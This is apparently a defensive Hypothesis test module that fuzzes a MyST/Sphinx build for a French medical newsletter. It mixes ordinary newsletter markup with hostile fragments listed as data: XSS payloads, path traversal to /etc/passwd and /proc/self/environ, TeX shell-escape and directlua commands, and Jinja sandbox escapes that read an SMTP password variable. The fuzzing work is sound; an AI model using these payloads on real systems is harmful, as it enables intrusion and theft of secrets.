"""The letter's language as Hypothesis strategies, with the hostile fragments of a guest author.

An issue file comes from outside the editorial board (a pull request, built by
Read the Docs for its preview), so the build must hold whatever the file says.
Examples written by hand only test the doors someone thought of; this module
describes the *language* of an issue (the guide, « Rédiger »: front
matter, headings, paragraphs, lists, quotes, the letter's directives and roles,
figures, tables, admonitions, formulas, footnotes) and mixes into every place of
it the fragments that attack a publishing pipeline: paths that leave the project,
URLs with active schemes, TeX that runs code or reads files, HTML that runs
scripts, control characters, deep nesting, directives, roles and options the
letter does not use, and per-file ``myst:`` configuration.

The strategies produce text only. A fragment that must name a place of the test
machine (the planted secret file, the workspace) holds a placeholder from
:data:`PLACEHOLDERS`, which :func:`resolve` replaces once the test knows its
folders: strategies stay independent of where a run happens, and a failing
example, shrunk by Hypothesis, reads the same on every machine.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Mapping

#: The planted secret file, outside the project, by its absolute path.
CANARY_ABS = '@@CANARY_ABS@@'
#: The same file, relative to the issue's folder (``issues/``).
CANARY_REL = '@@CANARY_REL@@'
#: The workspace above the project: a file written there is written outside the build.
OUTSIDE = '@@OUTSIDE@@'
#: The environment variable whose value is the environment canary (the relay's password,
#: which ``make send`` used to leave in the environment of the e-mail build).
SECRET_VARIABLE = 'GALIEN_SMTP_PASSWORD'
PLACEHOLDERS = (CANARY_ABS, CANARY_REL, OUTSIDE)

#: The issue file every example writes: its number, as the front matter should say it.
NUMERO = 21
ISSUE_PATH = f'issues/{NUMERO:03d}.md'


def resolve(text: str, values: Mapping[str, str]) -> str:
    """``text`` with each placeholder replaced by the test's own path."""
    for placeholder, value in values.items():
        text = text.replace(placeholder, value)
    return text


# --- Hostile fragments, by family -------------------------------------------------------------

#: Paths that leave the project, or name files whose bytes must never be published.
HOSTILE_PATHS = (
    '../../etc/passwd',
    '../../../../../../etc/passwd',
    '/etc/passwd',
    '/proc/self/environ',
    '../../../../../../proc/self/environ',
    '<../../../../../../proc/self/environ>',
    '</proc/self/environ>',
    CANARY_ABS,
    CANARY_REL,
    f'<{CANARY_ABS}>',
    f'file://{CANARY_ABS}',
    'file:///proc/self/environ',
    '~/.ssh/id_rsa',
    '../conf.py',
    '../../.git/config',
    'courbe.png/../../../etc/passwd',
    '%2e%2e/%2e%2e/etc/passwd',
)

#: URLs that run code, embed a document or reach the build machine's files.
HOSTILE_URLS = (
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java%0ascript:alert(1)',
    '&#106;avascript:alert(1)',
    '%6Aavascript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/png;base64,iVBORw0KGgo=',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    f'file://{CANARY_ABS}',
    '//evil.example/pixel.gif',
    '\\\\evil.example\\share',
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onmouseover='alert(1)",
    'https://ok.example/a b?c=<d>',
)

#: TeX that runs Lua or shell commands, reads or writes files, or changes how TeX reads.
HOSTILE_TEX = (
    r'\directlua{os.execute("touch pwned")}',
    '\\directlua{io.open("' + OUTSIDE + '/pwned-lua","w"):write("x")}',
    r'\input{/etc/passwd}',
    '\\input{' + CANARY_ABS + '}',
    r'\input ../../etc/passwd',
    r'\include{/etc/passwd}',
    r'\immediate\write18{touch pwned}',
    r'\write18{id}',
    r'\newwrite\w \immediate\openout\w=../../pwned.tex',
    r'\newread\r \openin\r=/etc/passwd',
    r'\catcode`\^^M=13',
    r'\catcode`\@=11',
    r'\csname directlua\endcsname{os.exit(1)}',
    r'^^5cdirectlua{os.exit(1)}',
    r'\def\x{\x}\x',
    r'\let\par\relax',
    r'\usepackage{shellesc}',
    r'\makeatletter\@@input /etc/passwd',
    r'\end{document}',
    r'\special{system: touch pwned}',
    r'\luaexec{os.exit(1)}',
    r'\scantokens{\input /etc/passwd}',
    r'\expandafter\input\string/etc/passwd',
    r'\begin{verbatim}',
    r'}}}}',
    r'{{{{',
    '$$ # & % ~ ^ _',
    r'\\',
)

#: HTML that runs scripts, loads frames, redirects or submits, or rewrites the page's base.
HOSTILE_HTML = (
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">lien</a>',
    '<div onmouseover="alert(1)">survol</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<span style="width: expression(alert(1))">x</span>',
    '<iframe src="https://evil.example/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="mdp"></form>',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<!-- <script>alert(1)</script> -->',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<button formaction="javascript:alert(1)">x</button>',
)

#: Characters that have no place in a letter: C0 and C1 controls, invisible and bidirectional marks.
CONTROL_CHARACTERS = (
    '\x00',
    '\x01',
    '\x07',
    '\x08',
    '\x0b',
    '\x0c',
    '\x1b',
    '\x1b[31m',
    '\x7f',
    '\x85',
    '\x9b',
    '\r',
    '\u2028',
    '\u2029',
    '\ufeff',
    '\u200b',
    '\u202e',
    '\ufffd',
    '\U000e0041',
)

#: Values for an option that expects a short word, a number or a code.
HOSTILE_WORDS = (
    *HOSTILE_HTML[:6],
    *HOSTILE_TEX[:8],
    '',
    ' ',
    '\\',
    '"',
    "'",
    '`',
    '{',
    '}',
    '|',
    '-' * 3,
    'x' * 300,
    '1e308',
    '-1',
    '0x15',
    'nan',
)

#: Every hostile fragment that can sit in running text.
HOSTILE_TEXT = (*HOSTILE_HTML, *HOSTILE_TEX, *CONTROL_CHARACTERS, *HOSTILE_URLS, *HOSTILE_PATHS)

#: What an editor of a medical letter really writes.
WORDS = (
    'osimertinib',
    'Tagrisso®',
    '≥ 75 ans',
    'β-HCG',
    'µg/mL',
    'm²',
    'Nguyễn',
    'Ki-67 ≤ 20 %',
    '⁹⁹ᵐTc',
    'CD4⁺',
    'N° 20',
    '« Deep Learning »',
    "l'AMM",
    'CBNPC',
    'survie',
    'médiane',
    '3,5 %',
    '—',
    '…',
    'p < 0,05',
    'A & B',
    'x_1',
    '#EGFR',
    '50 % des patients',
)
DCIS = ('osimertinib', 'atézolizumab', 'nivolumab', 'pembrolizumab', 'éribuline')
SPECIALITES = ('Tagrisso®', 'Tecentriq®', 'Opdivo®', 'Keytruda®', 'Halaven®')
BIB_KEYS = ('ravi2017', 'leem2017')
ADMONITIONS = (
    'note',
    'warning',
    'important',
    'tip',
    'caution',
    'attention',
    'danger',
    'error',
    'hint',
    'seealso',
)
MEMBER_TITLES = ('Pr', 'Dr', 'M.', 'Mme', 'Mlle', 'Me')
SAFE_URLS = (
    'https://www.leem.org/sites/default/files/LEEM_Plateforme_Cancers_Exe-V7.pdf',
    'https://base-donnees-publique.medicaments.gouv.fr/affichageDoc.php?specid=61235470&typedoc=R',
    'mailto:redaction@example.org',
    '#dans-l-actualite',
    '../chiffres.md',
)
FORMULAS = (
    r'\frac{a}{b}',
    r'\mathrm{DFG} \geq 60',
    r'x^2 + y_1',
    r'\sum_{i=1}^{n} \alpha_i',
    r'\sqrt{\beta}',
)
STATUTS = ('AMM', 'AMM conditionnelle', 'accès précoce', 'ATU de cohorte', 'RTU', 'retrait')

#: Directives, roles and options that are not part of the letter's language, or that reach
#: files, raw output or the parser's configuration.
FOREIGN_DIRECTIVES = (
    '```{raw} html\n<script>alert(1)</script>\n```',
    '```{raw} latex\n\\directlua{os.execute("touch pwned")}\n```',
    '```{raw} html\n:file: ' + CANARY_ABS + '\n```',
    '```{include} ' + CANARY_ABS + '\n```',
    '```{include} /proc/self/environ\n:literal:\n```',
    '```{literalinclude} ' + CANARY_REL + '\n```',
    '```{literalinclude} /proc/self/environ\n```',
    '```{csv-table}\n:file: ' + CANARY_ABS + '\n```',
    '```{csv-table}\n:url: https://evil.example/x.csv\n```',
    '```{tabularcolumns} |p{\\directlua{os.execute("touch pwned")}}|\n```',
    '```{only} html\n<script>alert(1)</script>\n```',
    '```{code-block} html\n<script>alert(1)</script>\n```',
    '```{image} javascript:alert(1)\n:target: javascript:alert(1)\n:alt: x\n```',
    '```{image} courbe.png\n:alt: courbe\n:target: javascript:alert(1)\n:class: "><script>\n```',
    '```{image} ' + CANARY_ABS + '\n:alt: x\n```',
    '```{download} ' + CANARY_ABS + '\n```',
    '```{math}\n:nowrap:\n\\directlua{os.execute("touch pwned")}\n```',
    '```{meta}\n:http-equiv=refresh: 0;url=https://evil.example/\n```',
    '```{rubric} <script>alert(1)</script>\n```',
    '```{container} "><script>alert(1)</script>\n```',
    '```{sidebar} <script>\nx\n```',
    '```{toctree}\n' + CANARY_ABS + '\n```',
    '```{unknown-directive} x\n:opt: y\n\nbody\n```',
    '```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```',
    '```{eval-rst}\n.. include:: </proc/self/environ>\n   :literal:\n```',
    '```{eval-rst}\n.. include:: ' + CANARY_ABS + '\n   :code:\n```',
    '```{eval-rst}\n.. include:: ' + CANARY_ABS + '\n   :parser: myst_parser.sphinx_\n```',
    '```{eval-rst}\n.. role:: h(raw)\n   :format: html latex\n\n'
    ':h:`<script>alert(1)</script>`\n```',
    '```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0;url=https://evil.example/\n```',
    '```{eval-rst}\n`x <javascript:alert(1)>`_\n```',
    '```{eval-rst}\n.. image:: courbe.png\n   :target: javascript:alert(1)\n   :alt: x\n```',
    '```{eval-rst}\n.. math::\n   :nowrap:\n\n   \\input{/etc/passwd}\n```',
    '```{eval-rst}\n.. csv-table::\n   :file: /proc/self/environ\n```',
    '```{eval-rst}\n.. |x| date:: %Y\n\n|x|\n```',
)
FOREIGN_ROLES = (
    '{raw-html}`<script>alert(1)</script>`',
    '{raw}`<script>alert(1)</script>`',
    '{math}`\\directlua{os.exit(1)}`',
    '{math}`\\input{/etc/passwd}`',
    '{download}`' + CANARY_ABS + '`',
    '{download}`x <' + CANARY_REL + '>`',
    '{doc}`' + CANARY_ABS + '`',
    '{ref}`<script>`',
    '{abbr}`<script> (alert)`',
    '{unknown-role}`x`',
    '{galien}`<script>`',
    '{galien}`../../etc/passwd`',
    '{dci}`<script>alert(1)</script>`',
    '{dci}`x <javascript:alert(1)>`',
    '{footcite:p}`<script>`',
    '{footcite:t}`' + CANARY_ABS + '`',
)

#: Per-file parser configuration in the front matter, which MyST would honour for that file.
MYST_FRONT_MATTER = (
    'myst:\n  enable_extensions: [substitution]\n  substitutions:\n'
    '    danger: "<script>alert(1)</script>"',
    'myst:\n  enable_extensions: [substitution]',
    'myst:\n  disable_syntax: []',
    'myst:\n  enable_extensions: [html_image, html_admonition, attrs_inline, attrs_block,'
    ' linkify, dollarmath, amsmath, substitution, fieldlist]',
    'myst:\n  url_schemes: [javascript, data, file, vbscript]',
    'myst:\n  html_meta:\n    "http-equiv=refresh": "0;url=https://evil.example/"\n'
    '    "property=og:x": "<script>"',
    'myst:\n  heading_anchors: 7\n  footnote_transition: true',
    'myst:\n  all_links_external: true',
    'substitutions:\n  danger: "<script>alert(1)</script>"',
    'html_meta:\n  "http-equiv=refresh": "0;url=https://evil.example/"',
    'orphan: true',
    'tocdepth: 99',
    'nocomments: true',
)

#: Text that a per-file ``substitution`` extension would run as a Jinja template: reading the
#: secret file, the environment, or writing outside the build.
JINJA_PAYLOADS = (
    '{{ danger }}',
    "{{ env.__class__.__init__.__globals__['os'].environ['" + SECRET_VARIABLE + "'] }}",
    "{{ env.__class__.__init__.__globals__['__builtins__']['open']('" + CANARY_ABS + "').read() }}",
    "{{ env.__class__.__init__.__globals__['__builtins__']['open']('"
    + OUTSIDE
    + "/pwned-jinja', 'w').write('x') }}",
    '{{ env.config.__dict__ }}',
    '{% for x in range(3) %}x{% endfor %}',
)

#: Markup that only some MyST extensions read, in case a per-file setting turns them on.
EXTENSION_MARKUP = (
    '<img src="courbe.png" alt="x" onerror="alert(1)">',
    '<div class="admonition note" onclick="alert(1)">\n<p>x</p>\n</div>',
    '[lien](https://example.org){onclick="alert(1)" style="x:expression(alert(1))"}',
    '{#x onmouseover="alert(1)"}\nUn paragraphe.',
    '$\\directlua{os.exit(1)}$',
    '$$\n\\input{/etc/passwd}\n$$',
    '\\begin{align}\n\\directlua{os.exit(1)}\n\\end{align}',
    'www.evil.example/x',
    ':champ: <script>alert(1)</script>',
)


# --- The letter's grammar ------------------------------------------------------------------------


def one_of_texts(*families: tuple[str, ...]) -> st.SearchStrategy[str]:
    """A fragment drawn from the given families."""
    return st.sampled_from(tuple(fragment for family in families for fragment in family))


words = st.sampled_from(WORDS)
hostile_text = st.sampled_from(HOSTILE_TEXT)
#: A short run of arbitrary characters, control and private-use ones included.
noise = st.text(
    alphabet=st.characters(blacklist_categories=('Cs',)),
    max_size=12,
)


@st.composite
def plain_text(draw: st.DrawFn) -> str:
    """Running text: mostly the letter's words, sometimes a hostile fragment or noise."""
    parts = draw(
        st.lists(
            st.one_of(words, words, words, hostile_text, noise),
            min_size=1,
            max_size=6,
        )
    )
    return ' '.join(parts)


def inline_markup(depth: int) -> st.SearchStrategy[str]:
    """Inline content: text, emphasis, code, links, images, the letter's roles, foreign roles."""
    text = plain_text()
    if depth <= 0:
        return text
    inner = st.deferred(lambda: inline_markup(depth - 1))
    url = st.one_of(st.sampled_from(SAFE_URLS), st.sampled_from(HOSTILE_URLS + HOSTILE_PATHS))
    path = st.one_of(st.just('courbe.png'), st.sampled_from(HOSTILE_PATHS + HOSTILE_URLS))
    return st.one_of(
        text,
        text,
        inner.map(lambda x: f'*{x}*'),
        inner.map(lambda x: f'**{x}**'),
        plain_text().map(lambda x: f'`{x}`'),
        st.tuples(inner, url).map(lambda p: f'[{p[0]}]({p[1]})'),
        st.tuples(inner, url).map(lambda p: f'[{p[0]}](<{p[1]}>)'),
        url.map(lambda u: f'<{u}>'),
        st.tuples(plain_text(), path).map(lambda p: f'![{p[0]}]({p[1]})'),
        st.sampled_from((7, 2, 20, 21, 999)).map(lambda n: f'{{galien}}`{n}`'),
        st.sampled_from(DCIS).map(lambda d: f'{{dci}}`{d}`'),
        st.tuples(st.sampled_from(SPECIALITES), st.sampled_from(DCIS)).map(
            lambda p: f'{{dci}}`{p[0]} <{p[1]}>`'
        ),
        st.sampled_from(BIB_KEYS).map(lambda k: f'{{footcite:p}}`{k}`'),
        st.sampled_from(BIB_KEYS).map(lambda k: f'{{footcite:t}}`{k}`'),
        st.sampled_from(FORMULAS + HOSTILE_TEX).map(lambda f: f'{{math}}`{f}`'),
        st.sampled_from(FOREIGN_ROLES),
        st.sampled_from(HOSTILE_HTML),
        st.sampled_from(JINJA_PAYLOADS),
        st.sampled_from(EXTENSION_MARKUP[:5]),
        st.just('[^1]'),
    )


@st.composite
def paragraph(draw: st.DrawFn) -> str:
    """A paragraph of one to four inline pieces, sometimes over several lines."""
    pieces = draw(st.lists(inline_markup(2), min_size=1, max_size=4))
    separator = draw(st.sampled_from((' ', '\n')))
    return separator.join(pieces)


def indent(text: str, prefix: str) -> str:
    """``text`` with ``prefix`` before every line."""
    return '\n'.join(prefix + line if line else line for line in text.split('\n'))


@st.composite
def bullet_list(draw: st.DrawFn, depth: int = 0) -> str:
    """A bullet or numbered list, nested a few levels."""
    ordered = draw(st.booleans())
    items = []
    for number in range(1, draw(st.integers(1, 3)) + 1):
        marker = f'{number}. ' if ordered else '- '
        item = marker + draw(inline_markup(1)).replace('\n', ' ')
        if depth < 4 and draw(st.integers(0, 3)) == 3:
            item += '\n' + indent(draw(bullet_list(depth + 1)), ' ' * len(marker))
        items.append(item)
    return '\n'.join(items)


@st.composite
def heading(draw: st.DrawFn) -> str:
    """A section (``#``) or an article (``##``) title, or deeper."""
    level = draw(st.integers(1, 4))
    return '#' * level + ' ' + draw(inline_markup(1)).replace('\n', ' ')


def fenced(name: str, argument: str, options: list[tuple[str, str]], body: str) -> str:
    """A directive in MyST's backtick fence, options as ``:name: value`` lines."""
    lines = [f'```{{{name}}}' + (f' {argument}' if argument else '')]
    lines += [f':{key}: {value}' for key, value in options]
    if body:
        if options:
            lines.append('')
        lines.append(body)
    lines.append('```')
    return '\n'.join(lines)


def option_value(*safe: str) -> st.SearchStrategy[str]:
    """An option's value: one of the expected values, or a hostile one."""
    return st.one_of(
        st.sampled_from(safe) if safe else plain_text(),
        st.sampled_from(safe) if safe else plain_text(),
        st.sampled_from(HOSTILE_WORDS + HOSTILE_URLS + HOSTILE_PATHS),
    ).map(lambda value: value.replace('\n', ' '))


@st.composite
def foreign_options(draw: st.DrawFn) -> list[tuple[str, str]]:
    """Options no directive of the letter declares (occasionally none)."""
    names = draw(
        st.lists(
            st.sampled_from(('class', 'name', 'file', 'url', 'onclick', 'raw', 'x', 'nowrap')),
            max_size=2,
        )
    )
    return [(name, draw(option_value())) for name in names]


@st.composite
def chiffre(draw: st.DrawFn) -> str:
    """``{chiffre-du-mois}``: the figure, an optional source, the explanation."""
    figure = draw(option_value('15', '3,5 %', '1 sur 3', '≥ 3'))
    options = []
    if draw(st.booleans()):
        options.append(('source', draw(option_value(*SAFE_URLS[:2], *BIB_KEYS))))
    options += draw(st.lists(foreign_options(), max_size=1).map(lambda o: o[0] if o else []))
    body = draw(st.lists(paragraph(), max_size=2).map('\n\n'.join))
    return fenced('chiffre-du-mois', figure, options, body)


@st.composite
def board(draw: st.DrawFn) -> str:
    """``{board}``: a title, then one line per member (title, name, city)."""
    members = []
    for _ in range(draw(st.integers(0, 3))):
        title = draw(st.sampled_from((*MEMBER_TITLES, 'Sir', '')))
        name = draw(
            st.one_of(st.sampled_from(('P. Arnaud', 'L. Nguyễn', 'JL. Cazin')), plain_text())
        )
        city = draw(
            st.one_of(st.sampled_from(('Paris', 'Lille', 'Hô Chi Minh-Ville')), plain_text())
        )
        members.append(f'- {title} {name} ({city})'.replace('\n', ' '))
    if draw(st.integers(0, 4)) == 4:
        # A line that made the board's parser backtrack for minutes (issue 28).
        members.append('- Pr X' + ' ' * draw(st.integers(0, 3000)) + '(Paris')
    return fenced('board', draw(option_value('Board scientifique')), [], '\n'.join(members))


@st.composite
def medicament(draw: st.DrawFn) -> str:
    """``{medicament}``: a DCI and the drug's regulatory options, then free text."""
    options: list[tuple[str, str]] = []
    choices = {
        'specialite': option_value(*SPECIALITES),
        'laboratoire': option_value('AstraZeneca', 'Roche', 'MSD'),
        'atc': option_value('L01EB04', 'L01', 'L'),
        'statut': option_value(*STATUTS),
        'date': option_value('2016-02-02', '2018-03'),
        'indication': option_value('CBNPC avec mutation EGFR T790M'),
    }
    for name in draw(st.lists(st.sampled_from(sorted(choices)), unique=True, max_size=6)):
        options.append((name, draw(choices[name])))
    options += draw(st.lists(foreign_options(), max_size=1).map(lambda o: o[0] if o else []))
    return fenced('medicament', draw(option_value(*DCIS)), options, draw(paragraph()))


@st.composite
def figure(draw: st.DrawFn) -> str:
    """``{figure}`` with its alt text, width, target and caption."""
    options = [('alt', draw(option_value('Courbe de survie')))]
    if draw(st.booleans()):
        options.append(('width', draw(option_value('50%', '200px'))))
    if draw(st.booleans()):
        options.append(('target', draw(option_value(*SAFE_URLS[:2]))))
    options += draw(st.lists(foreign_options(), max_size=1).map(lambda o: o[0] if o else []))
    path = draw(option_value('courbe.png'))
    return fenced('figure', path, options, draw(inline_markup(1)))


@st.composite
def table(draw: st.DrawFn) -> str:
    """A Markdown pipe table, bare or in ``{table}`` with a title and a class."""
    columns = draw(st.integers(1, 5))

    def row() -> str:
        cells = [
            draw(inline_markup(1)).replace('\n', ' ').replace('|', '\\|') for _ in range(columns)
        ]
        return '| ' + ' | '.join(cells) + ' |'

    rows = [row(), '|' + '---|' * columns, *(row() for _ in range(draw(st.integers(1, 3))))]
    pipe = '\n'.join(rows)
    if draw(st.booleans()):
        return pipe
    options = []
    if draw(st.booleans()):
        options.append(('class', draw(option_value('galien-pleine-largeur', 'galien-colonne'))))
    return fenced('table', draw(option_value('Nouvelles AMM')), options, pipe)


@st.composite
def admonition(draw: st.DrawFn) -> str:
    """An admonition (``{note}``, ``{warning}``…), or ``{admonition}`` with its own title."""
    body = draw(st.lists(paragraph(), min_size=1, max_size=2).map('\n\n'.join))
    if draw(st.integers(0, 4)) == 4:
        return fenced('admonition', draw(option_value('À retenir')), [], body)
    colon = draw(st.booleans())
    name = draw(st.sampled_from(ADMONITIONS))
    if colon:
        return f':::{{{name}}}\n{body}\n:::'
    return fenced(name, '', draw(foreign_options()), body)


@st.composite
def math_block(draw: st.DrawFn) -> str:
    """``{math}``: a displayed formula, from the allow-list or hostile."""
    return fenced('math', '', [], draw(st.sampled_from(FORMULAS + HOSTILE_TEX)))


@st.composite
def code_block(draw: st.DrawFn) -> str:
    """A fenced code block, whose text must stay text in every edition."""
    language = draw(st.sampled_from(('', 'python', 'html', 'latex', 'text', '<script>')))
    return f'```{language}\n{draw(plain_text())}\n```'


@st.composite
def quote(draw: st.DrawFn) -> str:
    """A block quote, sometimes nested."""
    level = draw(st.integers(1, 3))
    return indent(draw(paragraph()), '> ' * level)


@st.composite
def footnote(draw: st.DrawFn) -> str:
    """A footnote definition (``[^1]: …``)."""
    return '[^1]: ' + draw(inline_markup(1)).replace('\n', ' ')


@st.composite
def definition_list(draw: st.DrawFn) -> str:
    """A definition list (``deflist``): a term, then ``: definition``."""
    return (
        draw(plain_text()).replace('\n', ' ') + '\n: ' + draw(inline_markup(1)).replace('\n', ' ')
    )


@st.composite
def deep_nesting(draw: st.DrawFn) -> str:
    """Deeper than the letter needs: lists, quotes, emphasis, directives inside directives."""
    depth = draw(st.integers(5, 600))
    kind = draw(st.sampled_from(('list', 'quote', 'emphasis', 'strong', 'directive', 'brackets')))
    if kind == 'list':
        depth = min(depth, 40)
        return '\n'.join('  ' * level + f'- niveau {level}' for level in range(depth))
    if kind == 'quote':
        return '>' * depth + ' citation'
    if kind == 'emphasis':
        return '*' * depth + 'texte' + '*' * depth
    if kind == 'strong':
        return '**' * (depth // 2) + 'texte' + '**' * (depth // 2)
    if kind == 'brackets':
        return '[' * depth + 'x' + ']' * depth + '(https://example.org)'
    depth = min(depth, 30)
    opening = [':' * (depth + 3 - level) + '{note}' for level in range(depth)]
    closing = [':' * (level + 4) for level in range(depth)]
    return '\n'.join([*opening, 'au fond', *closing])


@st.composite
def hostile_block(draw: st.DrawFn) -> str:
    """A hostile construct written as a block of its own."""
    return draw(
        st.one_of(
            st.sampled_from(FOREIGN_DIRECTIVES),
            st.sampled_from(HOSTILE_HTML),
            st.sampled_from(EXTENSION_MARKUP),
            st.sampled_from(JINJA_PAYLOADS),
            st.sampled_from(HOSTILE_URLS).map(lambda url: f'[ref]: {url}\n\nVoir [ref].'),
            st.sampled_from(HOSTILE_TEXT),
        )
    )


def block() -> st.SearchStrategy[str]:
    """One block of an issue: the letter's blocks, weighted towards them, and hostile ones."""
    return st.one_of(
        paragraph(),
        paragraph(),
        heading(),
        heading(),
        bullet_list(),
        quote(),
        chiffre(),
        board(),
        medicament(),
        figure(),
        table(),
        admonition(),
        math_block(),
        code_block(),
        footnote(),
        definition_list(),
        st.just('```{footbibliography}\n```'),
        st.just('---'),
        st.just('(cible)='),
        st.just('% un commentaire'),
        hostile_block(),
        hostile_block(),
        deep_nesting(),
    )


@st.composite
def front_matter(draw: st.DrawFn) -> str:
    """The front matter: ``numero``, ``date``, ``titre``, ``brouillon``, and hostile keys."""
    lines = []
    # Hypothesis shrinks towards the first choice and towards 0: there, the well-formed letter.
    numero = draw(st.one_of(st.just(str(NUMERO)), st.just(str(NUMERO)), option_value('021')))
    if draw(st.integers(0, 9)) < 9:
        lines.append(
            f'numero: {json.dumps(numero)}' if not numero.isdigit() else f'numero: {numero}'
        )
    date = draw(st.one_of(st.just('2018-03'), st.just('2018-03'), option_value('2018-13')))
    if draw(st.integers(0, 9)) < 9:
        lines.append(f'date: {json.dumps(date)}')
    if draw(st.booleans()):
        titre = draw(inline_markup(1))
        quoted = draw(st.booleans())
        lines.append(
            f'titre: {json.dumps(titre)}' if quoted else 'titre: ' + titre.replace('\n', ' ')
        )
    if draw(st.integers(0, 5)) == 5:
        lines.append('brouillon: ' + draw(st.sampled_from(('non', 'oui', '[1, 2]', '"<script>"'))))
    lines += draw(st.lists(st.sampled_from(MYST_FRONT_MATTER), max_size=2, unique=True))
    return '---\n' + '\n'.join(lines) + '\n---\n'


@st.composite
def issue_files(draw: st.DrawFn) -> str:
    """A whole issue file: front matter, then blocks separated by blank lines."""
    blocks = draw(st.lists(block(), min_size=1, max_size=8))
    if draw(st.integers(0, 4)) < 4:
        # Every issue of the letter opens on its chiffre du mois; most generated ones do too.
        blocks.insert(0, draw(chiffre()))
    return draw(front_matter()) + '\n' + '\n\n'.join(blocks) + '\n'


NL = '\n'
#: A benign issue that uses every construct of the grammar above at least once: the clean
#: build that tells the theme's and the extension's own output from what an issue adds.
BENIGN_ISSUE = f"""---
numero: {NUMERO}
date: 2018-03
titre: « Deep Learning » ? ≥ 75 ans, β-HCG & µg/mL
brouillon: non
---

```{{chiffre-du-mois}} 3,5 %
:source: {SAFE_URLS[0]}

C'est la part des patients **≥ 75 ans** dans les essais, voir {{footcite:p}}`ravi2017`.
```

# Dans l'actualité

## « Deep Learning » ? *Nguyễn* et `code` {{dci}}`osimertinib`

Un texte avec *emphase*, **gras**, ***les deux***, `du code`, un [lien]({SAFE_URLS[1]}),
un [courriel](mailto:redaction@example.org), une [rubrique](#dans-l-actualite), une page
[des chiffres](../chiffres.md), <https://example.org/adresse>, {{galien}}`7`, {{galien}}`2`,
{{dci}}`Tagrisso® <osimertinib>`, {{footcite:t}}`ravi2017`,
{{footcite:p}}`leem2017`, {{math}}`\\frac{{a}}{{b}} \\geq \\sqrt{{\\beta}}`, une note[^1],
p < 0,05, A & B, x_1, #EGFR, 50 % des patients, ⁹⁹ᵐTc, CD4⁺, Ki-67 ≤ 20 %, m², N° 20 — …
Caractères : " ' ` \\ {{ }} | ~ ^ $ _ [ ] < > © ‰ ½ ∑ √ ∞ ✓ ✗ ; une image
![Courbe](courbe.png) dans le texte.

### Nouvelles AMM

1. Premier
   - deuxième niveau
     1. troisième niveau
        - quatrième niveau
2. Second

- Un
- Deux

> Une citation
>
> > dans une citation

Posologie
: 200 mg toutes les 3 semaines.

| DCI | Spécialité | Laboratoire | Indication | Date |
|---|---|---|---|---|
| osimertinib | Tagrisso® | AstraZeneca | CBNPC | 02/02/2016 |

```{{table}} Nouvelles AMM
:class: galien-pleine-largeur

| DCI | Spécialité |
|---|---|
| *nivolumab* | Opdivo® |
```

```{{table}} Dans la colonne
:class: galien-colonne

| Grade | Conduite |
|---|---|
| ≥ 3 | Suspendre |
```

```{{figure}} courbe.png
:alt: Courbe de survie
:width: 50%
:target: {SAFE_URLS[0]}

Survie sans progression à 12 mois : 45 % contre 30 %.
```

```{{math}}
\\sum_{{i=1}}^{{n}} \\alpha_i = \\mathrm{{DFG}}
```

```python
print("<script>")  # \\directlua
```

```
du texte brut
```

```{{medicament}} osimertinib
:specialite: Tagrisso®
:laboratoire: AstraZeneca
:atc: L01EB04
:statut: AMM conditionnelle
:date: 2016-02-02
:indication: CBNPC avec mutation EGFR T790M

Texte de *présentation*.
```

```{{admonition}} À retenir
Un encadré titré.
```

:::{{note}}
Une note en « colon fence ».
:::

{''.join(f'```{{{name}}}{NL}Encadré {name}.{NL}```{NL}{NL}' for name in ADMONITIONS)}
(cible)=

---

% un commentaire

[^1]: La note, avec un [lien]({SAFE_URLS[0]}).

```{{footbibliography}}
```

```{{board}} Board scientifique
- Pr P. Arnaud (Paris)
- Mme L. Nguyễn (Hô Chi Minh-Ville)
- Dr F. Pinguet (Montpellier)
```
"""
